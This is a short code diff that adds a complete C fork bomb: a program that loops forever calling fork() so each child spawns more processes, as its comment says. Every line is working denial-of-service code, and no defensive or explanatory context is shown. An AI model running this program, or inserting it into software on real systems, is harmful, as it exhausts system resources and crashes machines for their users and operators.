@@ -1,0 +1,5 @@
+// Fork forever; children do the same.
+#include <unistd.h>
+int main() {
+    for (;;) fork();
+}
